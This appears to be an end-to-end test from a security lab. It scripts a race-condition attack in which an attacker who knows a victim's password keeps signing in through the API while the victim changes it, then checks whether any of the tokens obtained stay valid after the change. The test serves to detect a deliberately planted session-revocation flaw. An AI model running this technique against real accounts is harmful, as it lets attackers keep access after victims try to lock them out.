// Attack (lab flaw `revocation-snapshot`): Mallory knows the victim's password and signs in with
// it over the API again and again. The victim changes the password to lock her out. A sign-in
// that read the old password hash just before the change and writes its session just after it
// lands after the sweep that ended the sessions of that moment: without the credential
// generation check, that session is live, with a fresh password entry, under the new password.
import { apiSignInAttempt, bearer, ownAddress } from "../support/api";
import { changePasswordInUi, expect, expectAttack, signIn, test } from "../support/fixtures";

test("a sign-in in flight with the old password outlives the victim's password change", async ({
  page,
  request,
  user,
  target,
}) => {
  await signIn(page, user);
  const mallory = ownAddress();
  const signIns: Promise<string | null>[] = [];
  let changing = true;
  const keepSigningIn = (async () => {
    while (changing) {
      signIns.push(
        apiSignInAttempt(request, user, mallory).then(async (r) =>
          r.status() === 201 ? (await r.json()).token : null,
        ),
      );
      await new Promise((resolve) => setTimeout(resolve, 40));
    }
  })();

  await changePasswordInUi(page, user.password, "violet-harbour-engine-42");
  await expect(page.getByText("Password changed.")).toBeVisible({ timeout: 15_000 });
  changing = false;
  await keepSigningIn;
  const tokens = (await Promise.all(signIns)).filter((token): token is string => token !== null);

  let live = 0;
  for (const token of tokens) {
    const answer = await request.get("/api/v1/accounts", { headers: bearer(token) });
    expect([200, 401]).toContain(answer.status());
    if (answer.status() === 200) live++;
  }
  expectAttack(target, live > 0);
});
